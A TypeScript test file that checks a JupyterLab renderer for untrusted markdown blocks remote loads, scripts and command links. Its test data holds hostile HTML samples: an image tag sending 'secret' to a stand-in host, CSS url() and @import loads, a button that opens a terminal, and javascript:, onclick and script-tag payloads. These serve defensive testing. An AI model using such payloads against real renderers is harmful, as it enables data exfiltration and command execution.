import { MimeModel, RenderMimeRegistry, standardRendererFactories } from '@jupyterlab/rendermime';
import { expect, test } from 'vitest';

import { IMAGE_LINK, untrusted } from '../../src/views/untrusted';

const registry = new RenderMimeRegistry({
  initialFactories: standardRendererFactories,
  markdownParser: { render: source => Promise.resolve(source) }
});

async function render(html: string): Promise<HTMLElement> {
  const renderer = untrusted(registry).createRenderer('text/markdown');
  await renderer.renderModel(new MimeModel({ data: { 'text/markdown': html } }));
  return renderer.node;
}

test.each([
  '<img src="https://evil.example/leak?q=secret" alt="chart">',
  '<img src="//evil.example/x.png">',
  '<img src="api/sessions?do=something">',
  '<img src="https://evil.example/a.png" srcset="https://evil.example/b.png 2x">',
  '<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png"></video>',
  '<audio src="https://evil.example/a.mp3"></audio>',
  '<video><source src="https://evil.example/v.mp4"></video>',
  '<iframe src="https://evil.example/"></iframe>',
  '<p style="background: url(https://evil.example/s.png)">text</p>',
  '<p style="list-style-image: url(\'https://evil.example/s.png\')">text</p>',
  '<table background="https://evil.example/b.png"><tr><td>x</td></tr></table>',
  '<svg><image href="https://evil.example/i.png"/></svg>',
  '<style>@import "https://evil.example/s.css"</style>',
  '<link rel="stylesheet" href="https://evil.example/s.css">'
])('nothing is loaded unasked: %s', async html => {
  const node = await render(html);
  expect(
    node.querySelector('img, video, audio, source, iframe, image, style, link, object, embed')
  ).toBeNull();
  for (const element of node.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      expect(`${name}=${name === 'href' || name === 'title' ? '' : value}`).not.toContain('evil');
    }
  }
});

test('an image becomes a link that names it', async () => {
  const node = await render('<img src="https://evil.example/leak" alt="chart">');
  const link = node.querySelector<HTMLAnchorElement>(`a.${IMAGE_LINK}`);
  expect(link?.textContent).toBe('chart');
  expect(link?.href).toBe('https://evil.example/leak');
});

test('an inline image is shown', async () => {
  const node = await render('<img src="data:image/png;base64,AAAA" alt="plot">');
  expect(node.querySelector('img')?.src).toBe('data:image/png;base64,AAAA');
});

test('no text can run a command of JupyterLab, or a script', async () => {
  const node = await render(
    '<button data-commandlinker-command="terminal:create-new" data-commandlinker-args="{}">go</button>' +
      '<a href="javascript:alert(1)" onclick="alert(1)">x</a><script>alert(1)</script>'
  );
  expect(node.innerHTML).not.toMatch(/commandlinker|javascript:|onclick|<script/);
});
